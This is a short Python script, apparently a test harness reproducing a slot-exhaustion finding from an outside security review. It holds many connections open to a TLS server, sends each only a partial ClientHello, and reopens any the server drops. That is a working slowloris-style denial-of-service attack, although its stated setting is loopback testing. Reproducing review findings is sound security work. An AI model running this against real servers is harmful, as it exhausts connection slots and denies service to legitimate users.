#!/usr/bin/python3
"""slots.py HOST PORT SECONDS N SRC...: the third outside review's slot exhaustion. From each
source address SRC (loopback addresses: 127.0.3.7 ...), hold N connections that send the
first bytes of a ClientHello and then nothing; a connection the server closes is opened
again at once. Runs for SECONDS and prints how many connections were opened in all and
how many were held at the end."""
import selectors
import socket
import ssl
import sys
import time

host, port, seconds, n = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
sources = sys.argv[5:]

ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
try:
    ctx.wrap_bio(incoming, outgoing).do_handshake()
except ssl.SSLWantReadError:
    pass
partial = outgoing.read()[:40]

sel = selectors.DefaultSelector()
opened = 0


def take(src):
    global opened
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind((src, 0))
    s.setblocking(False)
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    except OSError:
        s.close()
        return
    opened += 1
    sel.register(s, selectors.EVENT_WRITE, src)


for src in sources:
    for _ in range(n):
        take(src)

end = time.time() + seconds
while time.time() < end:
    for key, events in sel.select(timeout=0.05):
        s, src = key.fileobj, key.data
        if events & selectors.EVENT_WRITE:
            try:
                s.send(partial)
                sel.modify(s, selectors.EVENT_READ, src)
                continue
            except OSError:
                pass
        else:
            try:
                if s.recv(65536):
                    continue
            except BlockingIOError:
                continue
            except OSError:
                pass
        # Closed by the server: take the slot again at once.
        sel.unregister(s)
        s.close()
        take(src)

held = len(sel.get_map())
print("%d opened, %d held" % (opened, held))
